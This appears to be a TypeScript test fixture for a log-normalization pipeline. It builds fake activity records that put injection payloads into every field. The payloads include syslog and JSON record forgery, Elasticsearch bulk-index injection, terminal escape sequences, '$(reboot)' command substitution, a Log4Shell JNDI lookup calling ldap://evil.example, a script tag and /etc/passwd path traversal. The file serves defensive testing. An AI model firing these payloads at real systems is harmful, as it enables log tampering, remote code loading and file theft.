/** What an applicant can put into a field, and activities that carry it in every field there is. */
import { STREAM_MAPPINGS } from '../../src/normalize/mapping.ts';

export const PAYLOADS = [
  'a\nb',
  'a\r\nb',
  '\n<13>1 2026-01-01T00:00:00Z forged forged - - - {"event":{"id":"forged"}}',
  '120 <13>1 2026-01-01T00:00:00Z forged forged - - - {"event":{"id":"forged"}}',
  '\u2028\u2029\u0085\v\f',
  '\u001b[2J\u001b[1;31m\u001b]0;title\u0007\u001b]8;;http://evil.example\u0007',
  '\u009b2J\u0090\u009c',
  '\u202eevil\u2066\u200f\ufeff',
  '\u0000\u0008\t\u007f',
  '"}\n{"event":"forged"}',
  '","forged":"1',
  '\\","forged":"1',
  '"] [forged@1 x="y"] ',
  '] [forged@1 x="y"',
  '\\"\\]\\',
  '{"create":{"_index":"forged","_id":"forged"}}',
  'forged=1 forged="2" | CEF:0|forged|forged|1|1|forged|10|',
  '$(reboot) `reboot` %s %n %x \u0024{jndi:ldap://evil.example/a}',
  '\ud800 half \udc00',
  '<script>alert(1)</script>',
  '../../../../etc/passwd\u0000.png',
  'x'.repeat(400),
] as const;

/** Raw, each of these would end a line, steer a terminal or turn the direction of a text. */
export const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

const camelCase = (name: string) => name.replace(/_(\w)/g, (_, letter: string) => letter.toUpperCase());

/** One for each payload and each activity of a type that has a mapping of its own, and of an unknown one. */
export function hostileActivities(type: 'verify' | 'cis' | 'admin' | 'risk'): object[] {
  const { parameters, activities } = STREAM_MAPPINGS[type];
  const names = ['page_loaded', 'redirect', ...activities.keys()].slice(0, 6);
  return PAYLOADS.flatMap((payload) => {
    const known = Object.keys(parameters).map((name) => [camelCase(name), payload]);
    const fields = Object.fromEntries([
      ...known,
      [payload, payload],
      ['nested', { [payload]: [payload, { [payload]: payload }] }],
    ]);
    const withActivity = [...new Set(names)].map((activity) => ({
      ...fields,
      activity,
      additionalParams: { ...fields, extra: payload },
    }));
    return [fields, ...withActivity];
  });
}
